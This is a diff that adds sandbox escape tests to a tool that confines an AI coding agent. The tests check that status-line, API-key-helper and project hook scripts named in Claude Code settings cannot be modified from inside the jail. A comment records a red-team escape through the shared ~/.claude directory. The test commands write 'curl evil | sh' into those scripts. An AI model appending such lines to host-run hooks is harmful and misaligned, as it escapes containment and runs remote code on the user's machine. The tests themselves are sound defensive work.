@@ -220,6 +220,33 @@ check "a placeholder filled on the host during the run keeps what it was given" 
 rm -rf .codex
 check "pool directories are empty directories only" bash -c "
   for e in '$pool'/*; do [[ -d \$e && ! -L \$e && -z \$(ls -A \$e) ]] || { echo bad: \$e; exit 1; }; done"
+# Scripts the agent's protected settings name: the red team appended to the
+# status-line script in the shared ~/.claude, and host Claude Code ran it.
+mkdir -p "$HOME/.claude"
+printf '{"statusLine":{"type":"command","command":"bash ~/.claude/statusline-command.sh"}}\n' >"$HOME/.claude/settings.json"
+echo 'echo ok' >"$HOME/.claude/statusline-command.sh"
+claude_share=(--share-rw .claude --protect "$HOME/.claude/settings.json")
+check "a status-line script in the shared ~/.claude cannot be changed" bash -c "
+  ! $PADDOCK run ${claude_share[*]} -- sh -c 'echo \"curl evil | sh\" >> ~/.claude/statusline-command.sh' 2>/dev/null &&
+  [[ \$(cat '$HOME/.claude/statusline-command.sh') == 'echo ok' ]]"
+check "... nor replaced" bash -c "
+  ! $PADDOCK run ${claude_share[*]} -- sh -c 'rm -f ~/.claude/statusline-command.sh; echo evil > ~/.claude/statusline-command.sh' 2>/dev/null &&
+  [[ \$(cat '$HOME/.claude/statusline-command.sh') == 'echo ok' ]]"
+check "... while the rest of the share stays writable" bash -c "
+  $PADDOCK run ${claude_share[*]} -- sh -c 'echo note > ~/.claude/history.txt' && [[ -f '$HOME/.claude/history.txt' ]]"
+printf '{"apiKeyHelper":"~/.claude/key-helper.sh"}\n' >"$HOME/.claude/settings.json"
+check "a helper script it names that does not exist cannot be created, and leaves nothing" bash -c "
+  ! $PADDOCK run ${claude_share[*]} -- sh -c 'echo evil > ~/.claude/key-helper.sh' 2>/dev/null &&
+  [[ ! -e '$HOME/.claude/key-helper.sh' ]]"
+rm -rf "$HOME/.claude"
+# A project hook naming a project script: host Claude Code runs it unasked.
+mkdir -p scripts
+echo 'exit 0' >scripts/format.sh
+printf '{"hooks":{"PostToolUse":[{"hooks":[{"type":"command","command":"\\"$CLAUDE_PROJECT_DIR\\"/scripts/format.sh"}]}]}}\n' >.claude/settings.json
+check "a project script a project hook names cannot be changed" denied "echo 'curl evil | sh' >> scripts/format.sh"
+check "... while its neighbours stay writable" jail -- sh -c 'echo "exit 0" > scripts/other.sh'
+echo '{}' >.claude/settings.json
+rm -rf scripts
 # A project on another filesystem than the state dir: made and removed.
 if other=$(mktemp -d /dev/shm/paddock-pp.XXXXXX 2>/dev/null); then
   check "a project on another filesystem still gets its placeholders" bash -c "
